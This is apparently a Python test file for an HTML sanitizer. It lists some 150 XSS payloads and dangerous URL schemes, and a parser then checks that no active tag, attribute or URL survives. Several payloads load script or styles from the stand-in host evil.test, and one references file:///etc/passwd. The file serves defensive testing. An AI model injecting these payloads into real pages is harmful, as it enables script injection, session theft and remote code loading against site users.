# ruff: noqa: E501 - a body is easier to read on one line
"""Hostile bodies by family, and the check that nothing active is left of one."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

from aggregator.process.html.sanitize import EMBED_HOSTS, TAGS

URL_ATTRIBUTES = {"href", "src", "poster"}
PLAIN_ATTRIBUTES = {
    "dir", "lang", "rel", "alt", "title", "width", "height", "colspan", "rowspan", "span",
    "datetime", "start", "reversed", "open", "type", "scope", "loading", "decoding",
    "referrerpolicy", "controls", "preload", "sandbox", "allowfullscreen",
}  # fmt: skip

SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\r\nscript:alert(1)",
    "java\x00script:alert(1)",
    "java&#9;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java&Tab;script:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "&#0000106&#0000097vascript:alert(1)",
    "javascript:`نص 1`",
    "javascript:`نص`;alert(1)//",
    "javascript://example.ma/%0aalert(1)",
    "javascript:/*--></title></style>*/alert(1)",
    "\u200bjavascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "ｊavascript:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:x",
    "mocha:x",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:text/html,x",
    "blob:https://example.ma/x",
    "filesystem:http://example.ma/x",
    "file:///etc/passwd",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "feed:data:text/html,x",
    "jar:javascript:alert(1)!/",
    "about:blank",
    "intent://scan/#Intent;scheme=zxing;end",
    "ms-msdt:/id",
    "tel:123",
    "http://user:secret@example.ma/",
    "//user@evil.test/",
    "http://",
    "http:///",
    "https://[::1",
    "https://evil.test:99999/",
]

BODIES = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\x20type=text/javascript>alert(1)</script >",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror =\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src='x' onerror=alert(1)//",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img srcset='javascript:alert(1) 1x, /logout 2x' src=/logout>",
    '<img src="https://a.ma/x" srcset="//evil.test/x 1x" sizes="100vw">',
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<img longdesc=javascript:alert(1) usemap=#m src=x><map name=m><area href=javascript:alert(1)></map>",
    "<body onload=alert(1) background=javascript:alert(1)>x</body>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></title></svg>",
    "<svg><desc><template><style><a title='</style><img src onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><maction actiontype='statusline#javascript:alert(1)' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<template><script>alert(1)</script></template>",
    "<template><style></template><img src=x onerror=alert(1)></style></template>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<style><style/><img src=x onerror=alert(1)>",
    "<style>@import '//evil.test/x.css';</style>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><option><img src=x onerror=alert(1)></option></select>",
    "<select><iframe><a title='</iframe><img src onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<iframe src=https://www.youtube.com/embed/x srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://www.youtube.com/embed/x onload=alert(1)><script>alert(1)</script></iframe>",
    "<iframe src=https://www.youtube.com.evil.test/embed/x></iframe>",
    "<iframe src=https://www.youtube.com@evil.test/embed/x></iframe>",
    "<iframe src='https://www.youtube.com/embed/../redirect?q=javascript:alert(1)'></iframe>",
    "<iframe src=//evil.test></iframe>",
    "<iframe src='https://player.vimeo.com/video/1' name=getElementById></iframe>",
    "<iframe/src=data:text/html,x><p>",
    "<iframe src='https://player.vimeo.com/video/1'><p>never closed",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<embed src=javascript:alert(1) allowscriptaccess=always>",
    "<object data=javascript:alert(1)><param name=src value=x></object>",
    "<object type=text/x-scriptlet data=//evil.test></object>",
    "<applet code=x archive=//evil.test></applet>",
    "<base href=//evil.test/><a href=x>y</a>",
    "<base href='javascript:/a/-alert(1)///////'><a href=../lol/safe.html>x</a>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<link rel=import href=data:text/html,x>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Set-Cookie content='a=b'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<form><input type=image src=x formaction=javascript:alert(1)></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1) poster=javascript:alert(1)>",
    "<audio src=javascript:alert(1) onloadstart=alert(1) autoplay>",
    "<video><track src=//evil.test/x.vtt kind=captions></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=//evil.test></layer>",
    "<a href=/logout>x</a><img src=/logout>",
    "<a href=#x>x</a><a href=?logout=1>x</a><a href=''>x</a>",
    "<a href=x target=_top ping=//evil.test download>x</a>",
    "<a href='\\\\evil.test\\x'>x</a>",
    "<a onclick=alert(1) href=https://a.ma>x</a>",
    "<a href=https://a.ma style='position:fixed;inset:0'>x</a>",
    "<p style='background:url(javascript:alert(1))' class=modal>x</p>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='-moz-binding:url(//evil.test)'>x</div>",
    "<p id=csrf name=getElementById>x</p>",
    "<a id=location href=https://a.ma name=attributes>x</a>",
    "<img name=querySelector id=body src=https://a.ma/x.jpg>",
    "<blockquote cite=javascript:alert(1)>x</blockquote><q cite=javascript:alert(1)>y</q>",
    "<del cite=javascript:alert(1)>x</del>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x",
    "<p dir='\"><script>alert(1)</script>' lang='x\" onclick=alert(1)'>x</p>",
    "<p title='x' accesskey=x tabindex=1 onfocus=alert(1) contenteditable>x</p>",
    "<p is=x-evil slot=y part=z itemprop=w data-x=1 aria-label=q>x</p>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--[if IE]><img src=x onerror=alert(1)><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<?xml version='1.0'?><?import namespace=t implementation='#default#time2'>",
    "<? foo='><script>alert(1)</script>'>",
    "<! foo='><script>alert(1)</script>'>",
    "</ foo='><script>alert(1)</script>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE x [<!ENTITY a '<script>alert(1)</script>'>]>&a;",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<portal src=//evil.test></portal><dialog open>x</dialog>",
    "<a href='https://a.ma/\"onmouseover=alert(1) x=\"'>x</a>",
    "<img alt='`onerror=alert(1)' src=https://a.ma/x.jpg>",
    "<img src=\"https://a.ma/x.jpg\" alt=\"--><script>alert(1)</script>\">",
    "<img data-src='javascript:alert(1)' src='data:image/gif;base64,x'>",
    "<img data-src='x\" onerror=\"alert(1)' src='data:image/gif;base64,x'>",
    "<img data-src=\"x' onerror='alert(1)\" alt='\"><script>alert(1)</script>'>",
    "<p<script>alert(1)</script>>x",
    "<p\x0conclick=alert(1)>x",
    "<p/onclick=alert(1)/>x",
    "<a href=\"https://a.ma/",
    "<a href='https://a.ma/' title='",
    "<table><tr><td><a href=https://a.ma><table><script>alert(1)</script>",
    "<b><table><td></b><i></table></b><script>alert(1)</script>",
    "<ruby><rp><script>alert(1)</script></rp></ruby>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "\x00<script\x00>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ud800<script>alert(1)</script>",
    "<p>\u202eمقلوب<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip


class _Reader(HTMLParser):
    """Collects what is wrong with a piece of HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if name in URL_ATTRIBUTES:
                self._check_url(tag, name, value or "")
            elif name not in PLAIN_ATTRIBUTES:
                self.wrong.append(f"{tag} {name}={value}")
        self._check_required(tag, dict(attrs))

    def _check_url(self, tag: str, name: str, value: str) -> None:
        url = urlsplit(value)
        if url.scheme not in ("http", "https") or not url.hostname or "@" in url.netloc:
            self.wrong.append(f"{tag} {name}={value}")
        if tag == "iframe" and (url.scheme != "https" or url.hostname not in EMBED_HOSTS):
            self.wrong.append(f"frame {value}")

    def _check_required(self, tag: str, attributes: dict[str, str | None]) -> None:
        if tag == "a" and attributes.get("rel") != "noopener noreferrer nofollow":
            self.wrong.append("link without rel")
        if tag == "img" and (
            attributes.get("referrerpolicy") != "no-referrer" or attributes.get("loading") != "lazy"
        ):
            self.wrong.append("image that tells where it is shown")
        if tag == "iframe" and "allow-scripts" not in (attributes.get("sandbox") or ""):
            self.wrong.append("frame without sandbox")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"instruction {data}")


def find_violations(html: str) -> list[str]:
    """Everything in `html` that must not be on a page; empty if it is safe."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.wrong
